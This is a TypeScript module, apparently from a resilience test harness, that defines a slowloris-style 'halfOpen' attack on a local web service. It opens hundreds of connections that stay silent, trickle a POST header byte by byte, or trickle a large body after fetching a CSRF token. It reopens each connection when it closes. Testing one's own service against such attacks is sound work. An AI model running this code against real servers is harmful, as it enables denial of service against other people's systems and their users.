import { setTimeout as sleep } from 'node:timers/promises';
import { createHttpCaller } from './http-caller.ts';
import { openConnection } from './raw-connection.ts';
import { type Attack, repeat } from './target.ts';

/** Connections of each kind. */
const connections = 150;

/** Connections that send nothing, a header byte by byte, or a body byte by byte: each is opened again once it is closed. */
export const halfOpen: Attack = async ({ target, count }) => {
  const caller = createHttpCaller(target, target.addresses[0]!);
  const csrf = String((await caller.get('/api/config')).data.csrf);
  const head = `POST /api/quote/save HTTP/1.1\r\nhost: 127.0.0.1:${target.port}\r\ncontent-type: application/json\r\n`;
  const kinds = [
    { name: 'nothing sent', first: '' },
    { name: 'slow header', first: head },
    { name: 'slow body', first: `${head}x-csrf-token: ${csrf}\r\ncontent-length: 190000\r\n\r\n` },
  ];
  await repeat(target, kinds.length * connections, async (at) => {
    const { name, first } = kinds[at % kinds.length]!;
    const { socket, status, closed } = await openConnection(target, target.addresses[0]!);
    if (first) socket.write(first);
    const trickle = setInterval(() => first && !socket.destroyed && socket.write('x'), 1000);
    const timer = setTimeout(() => socket.destroy(), Math.max(0, target.ends - Date.now()));
    // A refusal leaves the connection open: a new one holds more.
    const answered = await status(30_000);
    socket.destroy();
    await closed;
    clearInterval(trickle);
    clearTimeout(timer);
    count(`${name} ${answered || 'closed'}`);
    await sleep(1000);
  });
};
